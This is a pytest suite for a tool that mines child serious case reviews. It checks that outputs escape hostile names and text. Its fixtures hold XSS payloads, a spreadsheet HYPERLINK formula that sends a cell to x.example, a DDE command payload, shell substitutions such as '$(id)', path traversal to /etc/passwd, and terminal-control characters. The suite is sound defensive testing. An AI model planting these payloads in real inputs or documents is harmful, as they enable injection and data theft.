"""Whatever names, titles and passages hold, nothing that a run writes acts, or lies elsewhere."""

import csv
import io
import json
import re
import zipfile
from html import unescape
from pathlib import Path

import browser
import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import example, given
from hypothesis import strategies as st
from lxml import etree, html

from scr_mine import folder
from scr_mine.commands.main import main
from scr_mine.errors import InputError, ScrMineError, UnreadableFileError

# openpyxl says so of what it does not read.
pytestmark = pytest.mark.filterwarnings("ignore:.*extension is not supported:UserWarning")
opened, chromium = browser.opened, browser.chromium

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
STEER = "\u202egnp.exe\u2066\x1b[31m\x07\u200f\U000e0041"
#: How it stands wherever a person reads it.
SHOWN = "[U+202E]gnp.exe[U+2066][U+001B][31m[U+0007][U+200F][U+E0041]"
#: What a review, board or label may be called by somebody who means harm, or does not think of it.
NAMES = (
    *(SCRIPT, FORMULA, "../../../tmp/x", "/etc/passwd", "C:\\Windows\\x", "CON", "nul.txt", "aux"),
    *(STEER, "a" * 400, "-1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "%00", ".", "..", "~", "$(id)"),
    *("\\input{/etc/passwd}", "{{ 7*7 }}", "`rm`", "javascript:alert(1)", "été 👶🏽 \u05d0"),
    *("a\tb|c", "trailing. ", "a:b", "question?", "]]><x/>", "&#60;script&#62;"),
)  # fmt: skip
PASSAGE = "Nobody told the school {0} and the plan was not shared with the health visitor {0}."
#: Names of devices, which Windows opens whatever their suffix is.
DEVICE = re.compile(r"(?:con|prn|aux|nul|com\d|lpt\d)(?:\.|$)", re.I)
ACTING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]"
)
FORMULA_LIKE = re.compile(r"\s*[=+\-@＝＋－＠\t\r]")
TAG = re.compile(r"(?<!\\)<(?:script|img|b)\b")
NUMBER = re.compile(r"-?\d+(?:\.\d+)?%?")


def invoke(*arguments):
    return CliRunner().invoke(main, [str(a) for a in arguments])


def text_of(name):
    """A report whose board, title, headings, passages and bullets hold what may act."""
    # A text with controls in it is not taken for text.
    shown = re.sub("[\x00-\x1f]", "", name)
    return "\n".join(
        [
            f"{shown} Safeguarding Children Board", "Serious Case Review", f"Child {shown}", "2019",
            "", f"1. {shown}", "", f"1.1 {PASSAGE.format(shown)}", "",
            f"1.2 {shown} was said by nobody who had seen the record of the school.", "",
            f"The board should: {shown}", "", f"• {shown} make sure that staff share the record;",
            f"• {FORMULA} is read by the managers of all services in the area.", "",
        ]
    )  # fmt: skip


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    return tmp_path_factory.mktemp("home")


@pytest.fixture(scope="module")
def out(home):
    """The folder of a run over reviews with such names, and everything else as it was before."""
    given = home / "reports"
    given.mkdir()
    rows = [("file", "review_id", "board", "label", "year", "scope")]
    for n, name in enumerate(NAMES):
        (given / f"{n}.txt").write_text(text_of(name), encoding="utf-8")
        rows.append((f"{n}.txt", name, name, name, 2009 + n % 9, ("local", "national")[n % 2]))
    listing = io.StringIO()
    csv.writer(listing).writerows(rows)
    (given / "reviews.csv").write_text(listing.getvalue(), encoding="utf-8", newline="")
    evil = given / f"{STEER}=1 <b>.txt"
    evil.write_text(text_of("Child"), encoding="utf-8")
    before = everything(home)
    result = invoke("run", given, "-o", home / "out")
    assert result.exit_code == 0, result.stderr
    (home / "said").write_text(result.stdout + result.stderr, encoding="utf-8")
    apart = {p: s for p, s in everything(home).items() if home / "out" not in p.parents}
    assert before == {p: s for p, s in apart.items() if p.name != "said"}
    return home / "out"


def everything(home):
    """Every file below a folder, with its bytes."""
    found = (p for p in home.rglob("*") if p.is_file())
    return {p: p.read_bytes() for p in found}


def test_what_a_run_says_does_not_act_on_a_terminal(home, out):
    assert not ACTING.search((home / "said").read_text(encoding="utf-8"))


def test_what_would_act_is_seen_wherever_a_person_reads(home, out):
    read = {p.name: p.read_text(encoding="utf-8") for p in (out / "reading.md", home / "said")}
    page = html.document_fromstring((out / "report.html").read_bytes().decode("utf-8"))
    book = openpyxl.load_workbook(out / "themes.xlsx")
    cells = [str(c.value) for s in book for row in s.iter_rows() for c in row]
    paper = home / "one.docx"
    assert invoke("report", out, "--where", f"board={STEER}", "-o", paper).exit_code == 0
    document = etree.fromstring(parts_lead_nowhere(paper)["word/document.xml"])
    assert SHOWN in read["said"]
    assert SHOWN.replace("[", "\\[") in read["reading.md"]
    assert SHOWN in "".join(page.itertext())
    assert SHOWN in " ".join(cells)
    assert SHOWN in "".join(document.itertext())
    assert SHOWN in (out / "tables" / "lessons-by-board.csv").read_text(encoding="utf-8-sig")
    assert SHOWN.replace("[", "\\[").replace("]", "\\]") in (
        out / "tables" / "lessons.md"
    ).read_text(encoding="utf-8")


def files(out, suffix):
    found = sorted(p for p in out.rglob(f"*{suffix}") if p.parent.name != "cache")
    assert found
    return found


def test_every_file_lies_in_the_folder_under_a_name_that_is_safe_everywhere(out):
    lower = [str(p.relative_to(out)).casefold() for p in out.rglob("*")]
    assert len(lower) == len(set(lower)) > 30
    for path in out.rglob("*"):
        assert re.fullmatch(r"[A-Za-z0-9_.-]+", path.name)
        assert not DEVICE.match(path.name)
        assert not path.name.endswith((".", " "))
        assert len(path.name) <= 120
        assert not path.is_symlink()


def test_every_review_has_a_file_of_its_own_with_its_passages_as_they_are(out):
    run = json.loads((out / "run.json").read_text(encoding="utf-8"))
    by_id = {entry["review_id"]: entry["file"] for entry in run["reviews"]}
    assert len(set(by_id.values())) == len(by_id) >= len(NAMES)
    lines = (out / by_id[SCRIPT]).read_text(encoding="utf-8").splitlines()
    assert PASSAGE.format(SCRIPT) in [json.loads(line)["text"] for line in lines]


def test_no_cell_of_a_csv_file_is_a_formula(out):
    for path in files(out, ".csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            for cell in row:
                assert NUMBER.fullmatch(cell) or not FORMULA_LIKE.match(cell), (path.name, cell)
                # The list of reviews goes back to the tool, and holds names as they are.
                assert path.name == "reviews.csv" or not ACTING.search(cell), (path.name, cell)


def test_no_cell_of_the_workbook_is_a_formula_and_nothing_in_it_leads_elsewhere(out):
    path = out / "themes.xlsx"
    for sheet in openpyxl.load_workbook(io.BytesIO(path.read_bytes())):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f" or cell.value.startswith("=IF("), cell.value
                assert cell.hyperlink is None or cell.hyperlink.target is None
    parts_lead_nowhere(path)


def test_the_board_paper_holds_no_field_that_acts_and_nothing_in_it_leads_elsewhere(out):
    parts = parts_lead_nowhere(out / "board-paper.docx")
    document = parts["word/document.xml"].decode("utf-8")
    fields = set(re.findall(r"<w:instrText[^>]*>\s*(\w+)|w:instr=\"\s*(\w+)", document))
    assert {a or b for a, b in fields} <= {"PAGE", "NUMPAGES", "TOC", "PAGEREF", "SEQ"}
    assert "altChunk" not in document


def parts_lead_nowhere(path):
    """The parts of an Office file, each well-formed, none of another place and none a macro."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, content in parts.items():
        assert ".." not in name and not name.startswith("/")
        assert "vba" not in name.lower() and "externalLink" not in name and "ddeLink" not in name
        if name.endswith((".xml", ".rels")):
            root = etree.fromstring(content)
            assert not root.xpath('//@TargetMode[. = "External"]'), name
            assert not ACTING.search("".join(root.itertext())), name
    return parts


def test_the_page_has_a_strict_policy_and_no_script_but_its_own(out):
    page = html.document_fromstring((out / "report.html").read_bytes().decode("utf-8"))
    [policy] = page.xpath('//meta[@http-equiv="Content-Security-Policy"]/@content')
    said = dict(each.strip().partition(" ")[::2] for each in policy.split(";") if each.strip())
    assert said["default-src"] == "'none'"
    assert "unsafe" not in policy and "http" not in policy and "*" not in policy
    assert said["base-uri"] == said["form-action"] == "'none'"
    for element in page.iter():
        assert not [name for name in element.attrib if name.lower().startswith("on")]
        for name in ("href", "src", "action", "data", "formaction", "xlink:href"):
            assert element.get(name, "#").startswith(("#", "data:")), element.get(name)
    assert not page.xpath(
        "//iframe | //object | //embed | //base | //form[@action] | //img[@onerror]"
    )
    assert not ACTING.search("".join(page.itertext()))


def test_nothing_of_a_report_is_executed_by_a_browser(out, opened):
    page = opened((out / "report.html").read_bytes())
    assert page.evaluate("document.querySelectorAll('img[src=x], script[src]').length") == 0
    assert "<script>alert(1)</script>" in page.evaluate("document.body.textContent")


@pytest.mark.parametrize("form", ["html", "tex", "md", "json", "csv", "xlsx"])
def test_tables_in_every_format_are_inert(out, tmp_path, form):
    path = tmp_path / f"table.{form}"
    result = invoke("table", out, "--by", "review", "--format", form, "-o", path)
    assert result.exit_code == 0, result.stderr
    if form == "xlsx":
        cells = [c for s in openpyxl.load_workbook(path) for row in s.iter_rows() for c in row]
        assert not [c.value for c in cells if c.data_type == "f"]
        parts_lead_nowhere(path)
        return
    text = path.read_text(encoding="utf-8")
    if form == "json":
        assert json.loads(text)
        return
    assert not ACTING.search(text)
    if form in ("html", "md"):
        spans = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", text) if form == "md" else text
        assert not TAG.search(spans)
        assert "&lt;script&gt;" in text or "\\<script" in text
    if form == "tex":
        spoken = re.sub(r"(?<!\\)%.*", "", text)
        assert "\\input{" not in spoken and "\\write" not in spoken


def test_the_page_of_a_table_does_nothing_in_a_browser(out, chromium):
    content = invoke("table", out, "--by", "review", "--format", "html").stdout
    context = chromium.new_context()
    page, trouble = context.new_page(), []
    page.on("dialog", lambda dialog: trouble.append(dialog.message))
    page.on("request", lambda request: trouble.append(request.url))
    page.set_content(content)
    assert page.locator("table").count()
    context.close()
    assert trouble == []


def test_the_notes_beside_the_tables_are_inert(out):
    for path in files(out, ".md"):
        text = path.read_text(encoding="utf-8")
        assert not ACTING.search(text), path.name
        assert not TAG.search(re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", text)), path.name
        assert not re.search(r"\]\(javascript:", text), path.name


@pytest.mark.parametrize(
    "command",
    [
        ("passages", "OUT"), ("kwic", "school", "OUT"), ("table", "OUT", "--format", "md"),
        ("table", "OUT", "--by", "board"), ("compare", "OUT"), ("picture", STEER, "OUT"),
        ("repeats", "OUT"), ("recommendations", "OUT"), ("trend", "OUT"), ("together", "OUT"),
    ],
)  # fmt: skip
def test_what_stands_on_a_terminal_does_not_act(out, command):
    result = invoke(*(out if word == "OUT" else word for word in command))
    assert result.exit_code == 0, result.stderr
    assert not ACTING.search(result.stdout + result.stderr)
    assert "[U+202E]" in result.stdout or command[0] not in ("passages", "kwic")


@pytest.mark.parametrize(
    ("command", "code"),
    [
        (("table", "OUT", "--where", f"board={STEER}x"), 1),
        (("table", "OUT", "--where", f"{STEER}=x"), 2),
        (("passages", "OUT", "--theme", STEER), 1),
        (("kwic", STEER * 2, "OUT"), 1),
        (("picture", f"{STEER}x", "OUT"), 1),
        (("table", STEER), 1),
        (("tag", STEER), 1),
        (("run", STEER, "-o", "x"), 2),
        (("cache", "clear", STEER), 2),
        (("run", "OUT", "-o", "x", "--manifest", STEER), 1),
        (("card", "--model", STEER), 1),
    ],
)  # fmt: skip
def test_an_error_does_not_act_whatever_it_names(out, tmp_path, monkeypatch, command, code):
    monkeypatch.chdir(tmp_path)
    result = invoke(*(out if word == "OUT" else word for word in command))
    assert result.exit_code == code, result.stderr
    assert result.stderr.startswith("Error: ")
    assert not ACTING.search(result.stdout + result.stderr)


def test_a_file_that_cannot_be_read_is_named_so_that_its_name_does_not_act(tmp_path):
    given = tmp_path / "in"
    given.mkdir()
    (given / "a.txt").write_text(text_of("A"), encoding="utf-8")
    (given / f"{STEER}.pdf").write_text("%PDF-1.4 nothing")
    result = invoke("run", given, "-o", tmp_path / "out")
    assert result.exit_code == 1
    assert f"Not read: {SHOWN}.pdf: it is damaged" in result.stderr
    assert not ACTING.search(result.stdout + result.stderr)
    report = (tmp_path / "out" / "reading.md").read_text(encoding="utf-8")
    assert not ACTING.search(report)
    assert f"- {SHOWN}.pdf: it is damaged".replace("[", "\\[") in report


def test_labels_go_out_inert_and_come_back(out, tmp_path):
    for form in ("csv", "xlsx"):
        path = tmp_path / f"labels.{form}"
        result = invoke("labels", "export", out, "--to", form, "-o", path)
        assert result.exit_code == 0, result.stderr
        if form == "csv":
            rows = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")))
            assert not [c for row in rows for c in row if FORMULA_LIKE.match(c)]
        else:
            book = openpyxl.load_workbook(path)
            cells = [c for s in book for row in s.iter_rows() for c in row]
            assert not [c.value for c in cells if c.data_type == "f"]


@pytest.mark.parametrize("name", ["../x.txt", "/etc/hostname", "..\\x.txt", "a/../../x.txt"])
def test_a_manifest_names_no_file_outside_its_folder(home, out, tmp_path, name):
    given = tmp_path / "in"
    given.mkdir()
    (given / "a.txt").write_text(text_of("A"), encoding="utf-8")
    (tmp_path / "x.txt").write_text(text_of("canary outside"), encoding="utf-8")
    (given / "reviews.csv").write_text(f"file,review_id\na.txt,a\n{name},x\n", encoding="utf-8")
    result = invoke("run", given, "-o", tmp_path / "out")
    assert result.exit_code in (0, 1, 2)
    assert "canary outside" not in "".join(
        p.read_text(encoding="utf-8") for p in (tmp_path / "out").rglob("*.jsonl")
    )


@given(st.text(max_size=300))
@example("CON")
@example("aux.txt")
@example("." * 5)
@example("\u202e../x")
def test_a_file_name_made_of_any_review_id_is_safe(review_id):
    made = folder.file_name(review_id)
    assert re.fullmatch(r"[a-z0-9-]{1,90}", made)
    assert not DEVICE.match(made)
    assert Path(made).name == made


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("a\nb\r\nc", "a b  c"),
        ("a\x1b[2Jb", "a[U+001B][2Jb"),
        ("\u202egnp.exe", "[U+202E]gnp.exe"),
        ("caf\udce9.txt", "caf[U+DCE9].txt"),
        ("été 👶 \u05d0", "été 👶 \u05d0"),
        ("", ""),
    ],
)
def test_an_error_shows_what_could_act_on_a_terminal_as_its_escape(given, shown):
    assert str(ScrMineError(given)) == str(InputError(given)) == shown
    error = UnreadableFileError(given or "x", "it is damaged", "get it again")
    assert str(error) == f"{shown or 'x'}: it is damaged; get it again."
    assert unescape(str(error)).isprintable()
